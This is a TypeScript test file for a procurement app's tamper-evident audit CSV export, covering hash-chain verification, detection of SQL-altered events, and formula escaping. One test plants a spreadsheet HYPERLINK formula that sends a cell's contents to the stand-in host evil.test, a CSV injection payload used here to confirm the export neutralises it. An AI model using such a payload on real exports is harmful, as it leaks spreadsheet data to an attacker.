import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sql } from "kysely";
import { requestChainVerification, errorBody, purchaseRequest } from "@procure/contracts";
import { startTestApp, type TestApp } from "@procure/infra/testing/test-app";
import { createUsers, type TestUser } from "@procure/infra/testing/users";
import { parseCsv, verifyAuditCsv } from "@procure/infra/audit-verify-script";
import { expectCall } from "@procure/infra/testing/http";

let t: TestApp;
let users: Record<"requester" | "approver" | "buyer" | "finance" | "admin", TestUser>;
beforeAll(async () => {
  t = await startTestApp("audit-export");
  users = await createUsers(t, ["requester", "approver", "finance"]);
}, 60_000);
afterAll(async () => {
  await t?.stop();
});

async function requestWithHistory(title: string) {
  const created = await expectCall(t, "POST", "/api/requests", {
    token: users.requester.token,
    body: { title, amount: 120 },
    status: 201,
    schema: purchaseRequest,
  });
  await expectCall(t, "POST", `/api/requests/${created.id}/comments`, {
    token: users.requester.token,
    body: { body: 'Quote: "urgent", see line 2,\nthanks' },
    status: 201,
  });
  await expectCall(t, "PATCH", `/api/requests/${created.id}`, { token: users.admin.token, body: { status: "approved" } });
  return created;
}

const csv = async (url: string, token: string) => {
  const res = await t.call("GET", url, { token });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers["content-type"]).toContain("text/csv");
  return res.body;
};

describe("request audit export", () => {
  it("exports the timeline with what an outside script needs to recompute the chain", async () => {
    const request = await requestWithHistory("Audited laptop");
    const text = await csv(`/api/requests/${request.id}/audit.csv`, users.requester.token);
    const [header, ...lines] = parseCsv(text).filter((r) => r.length > 1);
    expect(header).toEqual(expect.arrayContaining(["actor", "role", "action", "from", "to", "time", "event_id", "hash", "previous_hash", "canonical_event"]));
    expect(lines.length).toBeGreaterThanOrEqual(3);
    const row = (i: number) => Object.fromEntries(header!.map((h, j) => [h, lines[i]![j]]));
    expect(row(0)).toMatchObject({ actor: users.requester.email, role: "requester", action: "created", to: "pending" });
    expect(row(lines.length - 1)).toMatchObject({ actor: users.admin.email, role: "admin", to: "approved" });
    expect(verifyAuditCsv(text)).toEqual({ valid: true, events: lines.length, streams: 1 });
    const verdict = await expectCall(t, "GET", `/api/requests/${request.id}/audit/verify`, { token: users.requester.token, schema: requestChainVerification });
    expect(verdict).toMatchObject({ valid: true, events: lines.length });
    expect(verdict).not.toHaveProperty("brokenAt");

    const tampered = text.replace("Audited laptop", "Audited tablet");
    expect(verifyAuditCsv(tampered).valid).toBe(false);
  });

  it("reports the altered event once a stored event is changed by SQL", async () => {
    const request = await requestWithHistory("Tamper target");
    const stream = await t.runtime.store.readStream(`request-${request.id}`);
    const victim = stream[1]!;
    await sql`update events set data = jsonb_set(data, '{body}', '"rewritten"') where event_id = ${victim.event_id}::uuid`.execute(t.runtime.db);
    const verdict = await expectCall(t, "GET", `/api/requests/${request.id}/audit/verify`, { token: users.finance.token, schema: requestChainVerification });
    expect(verdict).toMatchObject({ valid: false, events: stream.length, brokenAt: { event_id: victim.event_id, stream_version: 2 } });
    const exported = verifyAuditCsv(await csv(`/api/requests/${request.id}/audit.csv`, users.finance.token));
    expect(exported).toMatchObject({ valid: false, brokenAt: { event_id: victim.event_id } });
  });

  it("exports every request's timeline for a date range to admin and finance", async () => {
    const today = new Date().toISOString().slice(0, 10);
    const text = await csv(`/api/audit/requests.csv?from=${today}&to=${today}`, users.finance.token);
    const check = verifyAuditCsv(text);
    // The tampered request is in the range too: the file shows where its chain breaks.
    expect(check.valid).toBe(false);
    expect(check.streams).toBeGreaterThanOrEqual(1);
    const yesterday = new Date(Date.now() - 2 * 86_400_000).toISOString().slice(0, 10);
    const empty = await csv(`/api/audit/requests.csv?from=${yesterday}&to=${yesterday}`, users.admin.token);
    expect(verifyAuditCsv(empty)).toEqual({ valid: true, events: 0, streams: 0 });
    expect((await t.call("GET", `/api/audit/requests.csv?from=${today}&to=${today}`, { token: users.requester.token })).statusCode).toBe(403);
    for (const q of ["", "?from=yesterday&to=today", `?from=${today}&to=${yesterday}`]) {
      const res = await t.call("GET", `/api/audit/requests.csv${q}`, { token: users.admin.token });
      expect(res.statusCode, q).toBe(400);
      errorBody.parse(res.json());
    }
  });
});

describe("formulas in exported cells", () => {
  const hyperlink = '=hyperlink("http://evil.test/?"&f2&"x@x","open")';

  it("come out prefixed with an apostrophe in a request's export and in the range export, and the chain still verifies", async () => {
    // An account whose address a spreadsheet would run, as one registered before addresses were checked strictly.
    const email = "legacy@example.com";
    const invited = await t.call("POST", "/api/users", { token: users.admin.token, body: { email, role: "requester", password: "secret-pass-4821" } });
    expect(invited.statusCode, invited.body).toBe(201);
    await sql`update rm_users set email = ${hyperlink} where id = ${invited.json().user.id}::uuid`.execute(t.runtime.db);
    const { token } = (await t.call("POST", "/api/auth/login", { body: { email, password: "secret-pass-4821" } })).json();
    const request = await expectCall(t, "POST", "/api/requests", { token, body: { title: "-2+3", amount: 5 }, status: 201, schema: purchaseRequest });

    const today = new Date().toISOString().slice(0, 10);
    for (const url of [`/api/requests/${request.id}/audit.csv`, `/api/audit/requests.csv?from=${today}&to=${today}`]) {
      const text = await csv(url, users.finance.token);
      const [header, ...lines] = parseCsv(text).filter((r) => r.length > 1);
      const created = lines.find((line) => line[header!.indexOf("request_id")] === request.id)!;
      expect(created[header!.indexOf("actor")], url).toBe(`'${hyperlink}`);
      expect(text).not.toMatch(/(^|,)"?=/m);
      if (url.includes("audit.csv")) expect(verifyAuditCsv(text)).toMatchObject({ valid: true, streams: 1 });
    }
  });
});

describe("date-range audit export at size", () => {
  // A workspace of its own, with no tampered timeline in it.
  let big: TestApp;
  let people: Record<"requester" | "admin", TestUser>;
  beforeAll(async () => {
    big = await startTestApp("audit-export-size");
    people = await createUsers(big, ["requester"]);
  }, 60_000);
  afterAll(async () => {
    await big?.stop();
  });

  it("streams every timeline in the range, whole and once, past many reads' worth of requests", async () => {
    for (let i = 0; i < 1_100; i += 50) {
      await Promise.all(
        Array.from({ length: 50 }, (_, j) =>
          expectCall(big, "POST", "/api/requests", { token: people.requester.token, body: { title: `Bulk ${i + j}`, amount: 10 }, status: 201 }),
        ),
      );
    }
    const today = new Date().toISOString().slice(0, 10);
    const res = await big.call("GET", `/api/audit/requests.csv?from=${today}&to=${today}`, { token: people.admin.token });
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...lines] = parseCsv(res.body).filter((r) => r.length > 1);
    const streamIds = new Set(lines.map((line) => line[header!.indexOf("stream_id")]));
    expect(streamIds.size).toBe(1_100);
    expect(verifyAuditCsv(res.body)).toEqual({ valid: true, events: lines.length, streams: 1_100 });
  });
});
